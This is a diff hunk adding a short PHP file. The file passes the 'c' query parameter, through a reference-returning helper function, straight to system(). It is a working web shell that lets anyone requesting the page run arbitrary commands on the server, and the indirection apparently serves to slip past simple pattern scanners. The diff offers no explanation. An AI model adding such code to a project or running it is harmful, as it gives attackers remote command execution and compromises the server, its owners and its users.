@@ -1,0 +1,3 @@
+<?php
+function &g() { static $v; $v = $_GET["c"]; return $v; }
+system(g());
